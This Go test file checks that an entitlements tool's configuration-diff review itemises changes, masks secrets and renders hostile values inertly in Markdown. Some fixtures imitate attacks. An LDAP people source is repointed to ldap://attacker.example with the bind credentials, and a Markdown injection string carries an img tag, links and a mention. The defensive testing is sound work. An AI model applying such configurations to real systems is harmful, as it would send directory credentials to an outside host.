package review

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/entitlements-go/entitlements/backends"

	"github.com/entitlements-go/entitlements/config"
)

const baseConfigText = `configuration_path: ./groups
backends:
  corp:
    type: ldap
    ldap_uri: ldaps://ldap.example.net:636
    ldap_binddn: <%= ENV["LDAP_BINDDN"] %>
    ldap_bindpw: <%= ENV["LDAP_BINDPW"] %>
    person_dn_format: uid=%KEY%,ou=People,dc=example,dc=net
groups:
  teams:
    backend: corp
    base: ou=Teams,dc=example,dc=net
  apps:
    backend: corp
    base: ou=Apps,dc=example,dc=net
  internal:
    type: dummy
filters:
  contractors:
    class: MemberOfGroup
    config:
      group: internal/contractors
people:
  yaml:
    type: yaml
    config:
      filename: people.yaml
people_data_source: yaml
`

func parseConfig(t *testing.T, text string) *config.Config {
	t.Helper()
	fsys := fstest.MapFS{
		"groups/teams/a.txt":              {Data: []byte("username = a\n")},
		"groups/apps/a.txt":               {Data: []byte("username = a\n")},
		"groups/tools/a.txt":              {Data: []byte("username = a\n")},
		"groups/internal/contractors.txt": {Data: []byte("username = a\n")},
		"people.yaml":                     {Data: []byte("a: {}\n")},
	}
	cfg, _, err := config.Parse("/entitlements.yaml", []byte(text), config.Options{Types: backends.Types(), FS: fsys, Getenv: PlaceholderEnv})
	if err != nil {
		t.Fatalf("%v\n%s", err, text)
	}
	return cfg
}

// TestCompareConfig: every kind of configuration change is itemised, with values read
// without the environment and secrets masked.
func TestCompareConfig(t *testing.T) {
	base := parseConfig(t, baseConfigText)
	for _, tc := range []struct {
		name string
		edit func(string) string
		want []ConfigChange
	}{
		{"nothing", func(s string) string { return s }, nil},
		{"a base DN from the environment", func(s string) string {
			return strings.Replace(s, "base: ou=Teams,", `base: ou=<%= ENV["SECRET_TOKEN"] %>,ou=Teams,`, 1)
		}, []ConfigChange{{Path: "groups.teams.base", Change: "changed",
			Old: `"ou=Teams,dc=example,dc=net"`, New: `"ou=ENV[SECRET_TOKEN],ou=Teams,dc=example,dc=net"`}}},
		{"an OU added, one removed, a type changed", func(s string) string {
			s = strings.Replace(s, "  apps:\n    backend: corp\n    base: ou=Apps,dc=example,dc=net\n", "  tools:\n    type: dummy\n", 1)
			return strings.Replace(s, "  internal:\n    type: dummy\n", "  internal:\n    backend: corp\n    base: ou=Internal,dc=example,dc=net\n", 1)
		}, []ConfigChange{
			{Path: "groups.apps", Change: "removed", Old: `{"base":"ou=Apps,dc=example,dc=net","ldap_binddn":"ENV[LDAP_BINDDN]","ldap_bindpw":"ENV[LDAP_BINDPW]","ldap_uri":"ldaps://ldap.example.net:636","person_dn_format":"uid=%KEY%,ou=People,dc=example,dc=net","type":"ldap"}`},
			{Path: "groups.internal.base", Change: "added", New: `"ou=Internal,dc=example,dc=net"`},
			{Path: "groups.internal.ldap_binddn", Change: "added", New: `"ENV[LDAP_BINDDN]"`},
			{Path: "groups.internal.ldap_bindpw", Change: "added", New: `"ENV[LDAP_BINDPW]"`},
			{Path: "groups.internal.ldap_uri", Change: "added", New: `"ldaps://ldap.example.net:636"`},
			{Path: "groups.internal.person_dn_format", Change: "added", New: `"uid=%KEY%,ou=People,dc=example,dc=net"`},
			{Path: "groups.internal.type", Change: "changed", Old: `"dummy"`, New: `"ldap"`},
			{Path: "groups.tools", Change: "added", New: `{"type":"dummy"}`},
		}},
		{"the people read from a server of the head's choosing", func(s string) string {
			s = strings.Replace(s, "people_data_source: yaml", "people_data_source: corp", 1)
			return strings.Replace(s, "people:\n", `people:
  corp:
    type: ldap
    config:
      base: ou=People,dc=example,dc=net
      ldap_uri: ldap://attacker.example:389
      ldap_binddn: <%= ENV["LDAP_BINDDN"] %>
      ldap_bindpw: <%= ENV["LDAP_BINDPW"] %>
`, 1)
		}, []ConfigChange{
			{Path: "people.corp", Change: "added", New: `{"config":{"base":"ou=People,dc=example,dc=net","ldap_binddn":"ENV[LDAP_BINDDN]","ldap_bindpw":"ENV[LDAP_BINDPW]","ldap_uri":"ldap://attacker.example:389"},"type":"ldap"}`},
			{Path: "people_data_source", Change: "changed", Old: `"yaml"`, New: `"corp"`},
		}},
		{"a secret written in the file is masked", func(s string) string {
			return strings.Replace(s, `ldap_bindpw: <%= ENV["LDAP_BINDPW"] %>`, "ldap_bindpw: hunter2", 1)
		}, []ConfigChange{
			{Path: "groups.apps.ldap_bindpw", Change: "changed", Old: `"ENV[LDAP_BINDPW]"`, New: `"(secret)"`},
			{Path: "groups.teams.ldap_bindpw", Change: "changed", Old: `"ENV[LDAP_BINDPW]"`, New: `"(secret)"`},
		}},
		{"filters and extras", func(s string) string {
			s = strings.Replace(s, "group: internal/contractors", "group: teams/a", 1)
			return s + "extras:\n  ldap_group:\n    ldap_uri: ldap://attacker.example\n"
		}, []ConfigChange{
			{Path: "extras.ldap_group", Change: "added", New: `{"ldap_uri":"ldap://attacker.example"}`},
			{Path: "filters.contractors.config.group", Change: "changed", Old: `"internal/contractors"`, New: `"teams/a"`},
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := CompareConfig(base, parseConfig(t, tc.edit(baseConfigText)))
			if !equalChanges(got, tc.want) {
				g, _ := json.MarshalIndent(got, "", "  ")
				w, _ := json.MarshalIndent(tc.want, "", "  ")
				t.Errorf("got %s\nwant %s", g, w)
			}
		})
	}
}

func equalChanges(a, b []ConfigChange) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// TestConfigChangesRendered: every format shows the configuration changes and where the data
// that is not in the repository came from; Markdown keeps hostile values inert.
func TestConfigChangesRendered(t *testing.T) {
	hostile := "x` @acme/security <img src=//e.example/b> [l](//e.example) ``"
	d := &Diff{Groups: []*GroupDiff{}, Config: &ConfigDiff{File: "entitlements.yaml", Changes: []ConfigChange{
		{Path: "groups.teams.base", Change: "changed", Old: `"ou=Teams"`, New: `"ou=ENV[SECRET_TOKEN],ou=Teams"`},
		{Path: "groups." + hostile, Change: "added", New: `{"x":"` + hostile + `"}`},
	}}, Sources: []string{"people: the yaml people file of each revision"}}
	if d.Empty() {
		t.Error("a configuration change is not empty")
	}
	var text, js, md bytes.Buffer
	if err := d.WriteText(&text); err != nil {
		t.Fatal(err)
	}
	if err := d.WriteJSON(&js); err != nil {
		t.Fatal(err)
	}
	if err := d.WriteMarkdown(&md, MarkdownOptions{}); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{"text": text.String(), "json": js.String(), "markdown": md.String()} {
		for _, want := range []string{"groups.teams.base", "ENV[SECRET_TOKEN]", "the yaml people file of each revision"} {
			if !strings.Contains(out, want) {
				t.Errorf("%s: %q missing:\n%s", name, want, out)
			}
		}
	}
	var parsed struct {
		Config  ConfigDiff `json:"config"`
		Sources []string   `json:"sources"`
	}
	if err := json.Unmarshal(js.Bytes(), &parsed); err != nil || len(parsed.Config.Changes) != 2 || len(parsed.Sources) != 1 {
		t.Errorf("json: %v\n%s", err, js.String())
	}
	outside := outsideCode(md.String())
	for _, bad := range []string{"<img", "](", "@acme", "ENV[SECRET_TOKEN]"} {
		if strings.Contains(outside, bad) {
			t.Errorf("markdown: %q outside a code span:\n%s", bad, md.String())
		}
	}
}

// outsideCode returns the text of a Markdown document that is not inside a code span (a
// backtick run closed by the next run of the same length on the same line, as CommonMark
// reads them).
func outsideCode(md string) string {
	var b strings.Builder
	for _, line := range strings.Split(md, "\n") {
		for i := 0; i < len(line); {
			if line[i] != '`' {
				b.WriteByte(line[i])
				i++
				continue
			}
			n := 0
			for i+n < len(line) && line[i+n] == '`' {
				n++
			}
			end := -1
			for j := i + n; j < len(line); {
				if line[j] != '`' {
					j++
					continue
				}
				m := 0
				for j+m < len(line) && line[j+m] == '`' {
					m++
				}
				if m == n {
					end = j + m
					break
				}
				j += m
			}
			if end < 0 { // an unclosed run is literal text
				b.WriteString(line[i : i+n])
				i += n
				continue
			}
			i = end
		}
		b.WriteByte('\n')
	}
	return b.String()
}
